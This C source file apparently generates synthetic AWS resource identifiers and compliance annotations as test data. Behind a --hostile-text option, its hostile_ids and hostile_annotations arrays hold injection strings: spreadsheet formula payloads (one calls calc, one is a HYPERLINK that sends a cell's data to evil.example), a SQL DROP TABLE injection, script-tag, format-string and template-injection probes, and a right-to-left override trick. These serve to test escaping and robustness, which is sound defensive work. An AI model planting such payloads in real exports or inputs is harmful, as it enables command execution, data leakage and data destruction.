/* How resources are named, and what is said of them. Part of evaluations.h. */
#include "base/buf.h"
#include "base/str.h"
#include "draw.h"
#include "evaluations.h"
#include "format/json.h"

#include <stdio.h>
#include <string.h>

typedef enum IdStyle {
    ID_HEX,    /* i-0123456789abcdef0 */
    ID_UPPER,  /* AIDAEXAMPLEEXAMPLE123 */
    ID_BUCKET, /* payments-prod-logs-0123abcd */
    ID_UUID,
    ID_ARN, /* the prefix is "service:kind/" */
    ID_ACCOUNT,
    ID_NAME, /* orders-worker-0123abcd */
} IdStyle;

static const struct {
    const char *type;
    IdStyle style;
    const char *prefix;
    size_t length; /* of what is drawn */
} id_styles[] = {
    {"AWS::::Account", ID_ACCOUNT, "", 0},
    {"AWS::S3::Bucket", ID_BUCKET, "", 8},
    {"AWS::EC2::Instance", ID_HEX, "i-", 17},
    {"AWS::EC2::Volume", ID_HEX, "vol-", 17},
    {"AWS::EC2::SecurityGroup", ID_HEX, "sg-", 17},
    {"AWS::EC2::Subnet", ID_HEX, "subnet-", 17},
    {"AWS::EC2::VPC", ID_HEX, "vpc-", 17},
    {"AWS::EC2::NetworkInterface", ID_HEX, "eni-", 17},
    {"AWS::EC2::NetworkAcl", ID_HEX, "acl-", 17},
    {"AWS::EC2::EIP", ID_HEX, "eipalloc-", 17},
    {"AWS::EC2::RouteTable", ID_HEX, "rtb-", 17},
    {"AWS::EC2::InternetGateway", ID_HEX, "igw-", 17},
    {"AWS::EC2::LaunchTemplate", ID_HEX, "lt-", 17},
    {"AWS::EC2::Snapshot", ID_HEX, "snap-", 17},
    {"AWS::EC2::TransitGateway", ID_HEX, "tgw-", 17},
    {"AWS::EC2::VPNConnection", ID_HEX, "vpn-", 17},
    {"AWS::EC2::ClientVpnEndpoint", ID_HEX, "cvpn-endpoint-", 17},
    {"AWS::EFS::FileSystem", ID_HEX, "fs-", 17},
    {"AWS::EFS::AccessPoint", ID_HEX, "fsap-", 17},
    {"AWS::IAM::User", ID_UPPER, "AIDA", 17},
    {"AWS::IAM::Role", ID_UPPER, "AROA", 17},
    {"AWS::IAM::Group", ID_UPPER, "AGPA", 17},
    {"AWS::IAM::Policy", ID_UPPER, "ANPA", 17},
    {"AWS::RDS::DBInstance", ID_UPPER, "db-", 26},
    {"AWS::RDS::DBCluster", ID_UPPER, "cluster-", 26},
    {"AWS::KMS::Key", ID_UUID, "", 32},
    {"AWS::ACM::Certificate", ID_ARN, "acm:certificate/", 32},
    {"AWS::ElasticLoadBalancingV2::LoadBalancer", ID_ARN, "elasticloadbalancing:loadbalancer/app/",
     16},
    {"AWS::ECS::TaskDefinition", ID_ARN, "ecs:task-definition/", 12},
    {"AWS::ECS::Cluster", ID_ARN, "ecs:cluster/", 12},
    {"AWS::SNS::Topic", ID_ARN, "sns:", 16},
    {"AWS::SecretsManager::Secret", ID_ARN, "secretsmanager:secret:", 16},
    {"AWS::StepFunctions::StateMachine", ID_ARN, "states:stateMachine:", 16},
    {"AWS::Backup::RecoveryPoint", ID_ARN, "backup:recovery-point:", 32},
    {NULL, ID_NAME, "", 8}, /* all others */
};

size_t resource_id_style(const char *type) {
    size_t i = 0;
    while (id_styles[i].type != NULL && strcmp(id_styles[i].type, type) != 0) {
        i++;
    }
    return i;
}

static const char *const words[] = {"orders", "invoice", "events",  "logs",    "media", "session",
                                    "report", "worker",  "gateway", "archive", "index", "cache",
                                    "export", "import",  "audit",   "backup"};

/* With --hostile-text, names that a spreadsheet or a careless reader trips over. */
static const char *const hostile_ids[] = {
    "=cmd|'/C calc'!A0-",
    "+SUM(1,2)-",
    "@import-",
    "-2+3-",
    "quote\"back\\slash-",
    "comma,semi;colon-",
    "caf\xc3\xa9-\xe6\x97\xa5\xe6\x9c\xac-",
};
enum { HOSTILE_IDS = sizeof hostile_ids / sizeof hostile_ids[0] };

/* True of any rule: which rule says one is left to chance. */
static const char *const annotations[] = {
    "The resource does not meet the rule's parameters.",
    "The required setting is not enabled.",
    "A required tag is missing.",
    "The setting differs from the organization's baseline.",
    "The resource was created without the approved template.",
    "The approved exception has run out.",
    "The last change to the resource turned the setting off.",
    "The value is outside the range that is allowed.",
};
enum { ANNOTATIONS = sizeof annotations / sizeof annotations[0] };

static const char *const hostile_annotations[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "line one\nline two\r\nline three",
    "tab\there, \"double\" and 'single' quotes, back\\slash",
    "+1+1",
    "-2-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\xf0\x9f\x94\xa5 not encrypted \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb",
    "right \xe2\x80\xae"
    "detrevni\xe2\x80\xac to left \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
    "</script><b>&amp;</b> %s %n {{7*7}}",
    "'; DROP TABLE evaluations; --",
    "\tbegins with a tab",
    /* 256 characters, 512 bytes */
    "\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3"
    "\xa4"
    "\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4 the longest that fits: 0123456789 0123456789 0123456789 "
    "0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 "
    "0123456789 0123456789 0123456789 0123456789 0123456789 0123456 0123456789 0123456789 "
    "0123456789",
};
enum { HOSTILE_ANNOTATIONS = sizeof hostile_annotations / sizeof hostile_annotations[0] };

static char *put_text(char *at, const char *text) {
    size_t size = strlen(text);
    memcpy(at, text, size);
    return at + size;
}

static char *put_hex(char *at, uint64_t draw, size_t count) {
    static const char digits[] = "0123456789abcdef";
    uint64_t bits = draw;
    for (size_t i = 0; i < count; i++) {
        if (i % 16 == 0 && i > 0) {
            bits = draw = draw_next(draw, i);
        }
        *at++ = digits[bits & 15];
        bits >>= 4;
    }
    return at;
}

static char *put_upper(char *at, uint64_t draw, size_t count) {
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    uint64_t bits = draw;
    for (size_t i = 0; i < count; i++) {
        if (i % 12 == 0 && i > 0) {
            bits = draw = draw_next(draw, i);
        }
        *at++ = digits[bits & 31];
        bits >>= 5;
    }
    return at;
}

static char *put_uuid(char *at, uint64_t draw) {
    static const size_t parts[] = {8, 4, 4, 4, 12};
    for (size_t i = 0; i < 5; i++) {
        at = put_hex(i > 0 ? put_text(at, "-") : at, draw_next(draw, i), parts[i]);
    }
    return at;
}

static char *put_arn(char *at, const ScopeRule *rule, const char *prefix, uint64_t draw,
                     size_t length) {
    const char *colon = strchr(prefix, ':');
    const char *region = rule->world->regions[rule->region];
    at = put_text(put_text(put_text(at, "arn:"), world_partition(region)), ":");
    memcpy(at, prefix, (size_t)(colon - prefix));
    at += colon - prefix;
    at = put_text(put_text(put_text(at, ":"), region), ":");
    at = put_text(put_text(at, rule->world->accounts[rule->account].id), ":");
    at = put_text(at, colon + 1);
    if (length == 32) {
        return put_uuid(at, draw);
    }
    at = put_text(put_text(at, words[draw & 15]),
                  length == 16 && strstr(prefix, "/app/") ? "/" : "-");
    return put_hex(at, draw_next(draw, 9), length);
}

static char *put_name(char *at, const ScopeRule *rule, uint64_t draw) {
    if (rule->world->hostile_text && draw_below(draw_next(draw, 21), 12) == 0) {
        at = put_text(at, hostile_ids[draw_below(draw_next(draw, 22), HOSTILE_IDS)]);
    } else {
        at = put_text(put_text(at, words[draw >> 8 & 15]), "-");
        at = put_text(put_text(at, words[draw >> 12 & 15]), "-");
    }
    return put_hex(at, draw_next(draw, 23), 8);
}

char *evaluation_put_resource_id(const ScopeRule *rule, const Evaluation *evaluation, char *at) {
    uint64_t draw = draw_next(draw_next(rule->pool_draw, (uint64_t)evaluation->slot),
                              6000 + (uint64_t)evaluation->born);
    const WorldAccount *account = &rule->world->accounts[rule->account];
    const char *prefix = id_styles[rule->id_style].prefix;
    size_t length = id_styles[rule->id_style].length;
    switch (id_styles[rule->id_style].style) {
    case ID_HEX:
        return put_hex(put_text(put_text(at, prefix), "0"), draw, length - 1);
    case ID_UPPER:
        return put_upper(put_text(at, prefix), draw, length);
    case ID_BUCKET:
        at = put_text(put_text(put_text(at, account->slug), "-"), words[draw & 15]);
        return put_hex(put_text(at, "-"), draw_next(draw, 1), length);
    case ID_UUID:
        return put_uuid(at, draw);
    case ID_ARN:
        return put_arn(at, rule, prefix, draw, length);
    case ID_ACCOUNT:
        return put_text(at, account->id);
    case ID_NAME:
        break;
    }
    return put_name(at, rule, draw);
}

char *evaluation_put_resource_json(const ScopeRule *rule, const Evaluation *evaluation, char *at) {
    char *end = evaluation_put_resource_id(rule, evaluation, at);
    if (!rule->world->hostile_text) {
        return end; /* nothing in it needs escaping */
    }
    OWN(buf_done) Buf quoted = {0};
    json_append_quoted(&quoted, at, (size_t)(end - at));
    ASSERT(quoted.size - 2 <= RESOURCE_ID_SIZE);
    memcpy(at, quoted.data + 1, quoted.size - 2);
    return at + quoted.size - 2;
}

void evaluation_annotation(const ScopeRule *rule, const Evaluation *evaluation,
                           char ret_text[ANNOTATION_SIZE]) {
    ret_text[0] = '\0';
    uint64_t draw = draw_next(evaluation->draw, 7001);
    bool is_bad = evaluation->compliance == NON_COMPLIANT;
    if (rule->world->hostile_text && draw_below(draw_next(draw, 1), 3) == 0) {
        str_copy(ret_text, ANNOTATION_SIZE,
                 hostile_annotations[draw_below(draw_next(draw, 2), HOSTILE_ANNOTATIONS)]);
    } else if (is_bad && draw_below(draw, 16) == 0) {
        /* Says something else each week although nothing changed. */
        long long days = (long long)(91 + draw_below(draw_next(draw, 3), 300));
        snprintf(ret_text, ANNOTATION_SIZE, "Not as required for %lld days.",
                 days + 7 * (long long)rule->knobs->week);
    } else if (is_bad && draw_below(draw_next(draw, 4), 10) < 8) {
        str_copy(ret_text, ANNOTATION_SIZE,
                 annotations[draw_below(draw_next(rule->draw, 5), ANNOTATIONS)]);
    }
}
